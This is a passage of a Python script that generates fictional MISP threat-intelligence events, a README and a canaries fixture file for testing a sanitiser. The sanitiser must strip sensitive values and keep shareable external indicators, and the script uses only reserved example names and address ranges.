    for tag, kind in NON_SHAREABLE_TAGS.items():
        if tag in tags:
            return kind
    if attribute["distribution"] == "0" or (misp_object is not None and misp_object["distribution"] == "0"):
        return "distribution-0"
    return None


def iter_attributes(event: dict) -> Iterator[tuple[dict, dict | None]]:
    for attribute in event.get("Attribute", []):
        yield attribute, None
    for misp_object in event.get("Object", []):
        for attribute in misp_object["Attribute"]:
            yield attribute, misp_object


def is_internal(value: str) -> bool:
    """An address in the organisation's networks or a name under its domains."""
    for part in value.split("|"):
        try:
            address = ipaddress.ip_address(part)
        except ValueError:
            host = part.lower().rstrip(".")
            if any(host == d or host.endswith("." + d) for d in INTERNAL_DOMAINS):
                return True
            continue
        if any(address in ipaddress.ip_network(n) for n in (*INTERNAL_NETWORKS, *PUBLIC_NETWORKS)):
            return True
    return False


def build_canaries(events: list[dict]) -> dict:
    registered = registered_canaries()
    plain_values = [c.value for c in registered] + [c.decoded for c in registered if c.decoded]

    def events_containing(value: str) -> list[str]:
        return [e["Event"]["uuid"] for e in events if any(value in s for s in iter_strings(e))]

    sensitive: dict[str, dict] = {}
    missing: list[str] = []
    for canary in registered:
        found = events_containing(canary.value)
        if not found:
            if canary.required:
                missing.append(canary.value)
            continue
        entry = {"value": canary.value, "kind": canary.kind, "event": found[0], "events": found}
        if canary.encoding:
            entry |= {"encoding": canary.encoding, "decoded": canary.decoded}
        sensitive[canary.value] = entry

    if missing:
        raise ValueError(f"canaries not planted in any event: {missing}")

    def add_context(value: str, kind: str) -> None:
        if value in sensitive or len(value) < 6:
            return
        found = events_containing(value)
        sensitive[value] = {"value": value, "kind": kind, "event": found[0], "events": found}

    shareable: list[dict] = []
    for wrapped in events:
        event = wrapped["Event"]
        event_kind = event_blocking_kind(event)
        if event_kind:
            add_context(event["info"], event_kind)
        for attribute, misp_object in iter_attributes(event):
            value = attribute["value"]
            kind = event_kind or attribute_blocking_kind(attribute, misp_object)
            if kind and attribute["type"] not in NUMERIC_TYPES:
                add_context(value, kind)
            elif attribute["category"] == "Targeting data":
                add_context(value, "targeting")
            shareable_here = (
                kind is None and event["published"] and attribute["type"] in INDICATOR_TYPES
                and not is_internal(value)
                and not any(p in value or p in unquote(value) for p in plain_values)
            )
            if shareable_here:
                entry = {"value": value, "type": attribute["type"], "event": event["uuid"],
                         "to_ids": attribute["to_ids"]}
                if misp_object is not None:
                    entry["object"] = misp_object["name"]
                if entry not in shareable:
                    shareable.append(entry)
    return {
        "organisation": {
            "name": ORG_NAME, "uuid": ORG["uuid"], "internal_networks": list(INTERNAL_NETWORKS),
            "internal_domains": list(INTERNAL_DOMAINS), "public_networks": list(PUBLIC_NETWORKS),
        },
        "sensitive": list(sensitive.values()),
        "shareable_indicators": shareable,
    }


# --------------------------------------------------------------------------------------------
# README
# --------------------------------------------------------------------------------------------

def readme(specs: list[Scenario], events: list[dict], canaries: dict) -> str:
    lines = [
        "# Example MISP events",
        "",
        f"Generated by `examples/make_events.py` (do not edit by hand). {len(events)} events of the "
        f"fictional member **{ORG_NAME}** (org uuid `{ORG['uuid']}`), each in MISP's feed/event shape "
        '`{"Event": {...}}`, file name `<event uuid>.json`.',
        "",
        "Every planted sensitive value is listed in `tests/fixtures/canaries.json` (`sensitive`, "
        f"{len(canaries['sensitive'])} values), together with the external indicators a correct "
        f"sanitiser must keep (`shareable_indicators`, {len(canaries['shareable_indicators'])} values). "
        "Shareable means: published event, event and attribute/object distribution not 0, and no `tlp:red`, "
        "`tlp:amber+strict` or `PAP:RED` tag on the event or attribute.",
        "",
        "Only reserved names are used: example.com/.net/.org, `*.example`, 192.0.2.0/24, 198.51.100.0/24, "
        "203.0.113.0/24, RFC 1918, 2001:db8::/32, AS64496-AS64511. The organisation's own systems are "
        "under corp.example / exampleenergy.example, 10/8, 172.16/12, 192.168/16 and its public "
        "block 192.0.2.224/27.",
        "",
        "| uuid | info | distribution | TLP / PAP | published | exercises |",
        "|---|---|---|---|---|---|",
    ]
    for spec, wrapped in zip(specs, events, strict=True):
        event = wrapped["Event"]
        dist = f"{spec.distribution} {DISTRIBUTION_NAMES[spec.distribution]}"
        if spec.sharing_group:
            dist += f" ({SHARING_GROUPS[spec.sharing_group]['name']})"
        published = "yes" if spec.published else "no"
        info, exercises = (text.replace("|", "\\|") for text in (spec.info, spec.exercises))
        lines.append(f"| `{event['uuid'][:8]}` | {info} | {dist} | {spec.tlp} / {spec.pap} | "
                     f"{published} | {exercises} |")
    lines.append("")
    return "\n".join(lines)


# --------------------------------------------------------------------------------------------
# Entry points
# --------------------------------------------------------------------------------------------

def build_events() -> tuple[list[Scenario], list[dict]]:
    rng = random.Random(SEED)
    specs = sorted(scenarios(rng), key=lambda s: s.day)
    return specs, [Builder(spec, rng).build() for spec in specs]


def dump(data) -> str:
    return json.dumps(data, indent=2, ensure_ascii=False) + "\n"


def generate(events_dir: Path = DEFAULT_EVENTS_DIR, canaries_path: Path = DEFAULT_CANARIES) -> list[Path]:
    """Write the events, their README and the canaries file; return the written paths."""
    specs, events = build_events()
    canaries = build_canaries(events)
    events_dir.mkdir(parents=True, exist_ok=True)
    canaries_path.parent.mkdir(parents=True, exist_ok=True)
    wanted = {f"{e['Event']['uuid']}.json" for e in events}
    for stale in events_dir.glob("*.json"):
        if stale.name not in wanted:
            stale.unlink()
    written = []
    for event in events:
        path = events_dir / f"{event['Event']['uuid']}.json"
        path.write_text(dump(event), encoding="utf-8")
        written.append(path)
    (events_dir / "README.md").write_text(readme(specs, events, canaries), encoding="utf-8")
    canaries_path.write_text(dump(canaries), encoding="utf-8")
    return [*written, events_dir / "README.md", canaries_path]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_EVENTS_DIR,
                        help="directory for the <uuid>.json files and README.md")
    parser.add_argument("--canaries", type=Path, default=DEFAULT_CANARIES, help="path of canaries.json")
    args = parser.parse_args(argv)
    written = generate(args.out, args.canaries)
    print(f"wrote {len(written) - 2} events, README.md and {args.canaries}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
